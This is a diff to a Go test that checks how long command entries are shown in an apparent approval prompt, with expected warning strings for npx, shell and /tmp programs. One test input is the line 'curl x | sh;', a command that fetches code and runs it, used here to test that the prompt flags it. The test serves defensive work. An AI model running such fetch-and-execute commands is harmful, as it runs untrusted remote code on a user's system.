@@ -57,7 +57,7 @@ func TestALongEntryDoesNotPushTheQuestionAway(t *testing.T) {
 	}{
 		"an argument":       {map[string]any{"command": "npx", "args": []string{"-y", long, "the-end"}}, []string{"npx -y \n             \"0123456789", "789\" the-end", " characters⟩"}},
 		"a line of a shell": {map[string]any{"command": "sh", "args": []string{"-c", "curl x | sh;" + strings.Repeat(" true;", 4000)}}, []string{`"sh" runs a line`, `"curl" fetches`, "⟨+2", " characters⟩"}},
-		"the program":       {map[string]any{"command": "/tmp/" + long}, []string{"lies where anybody may put a program"}},
+		"the program":       {map[string]any{"command": "/tmp/" + long}, []string{"is where anybody may put a program"}},
 		"the directory":     {map[string]any{"command": "c", "cwd": "/" + long}, []string{"characters⟩"}},
 		"many arguments":    {map[string]any{"command": "c", "args": many(20_000, "a")}, []string{"command    c a0 a1 a2 ", " a19999\n", " more⟩"}},
 		"empty arguments":   {map[string]any{"command": "c", "args": make([]string, 20_000)}, []string{"command    c \"\" \"\"", " more⟩"}},
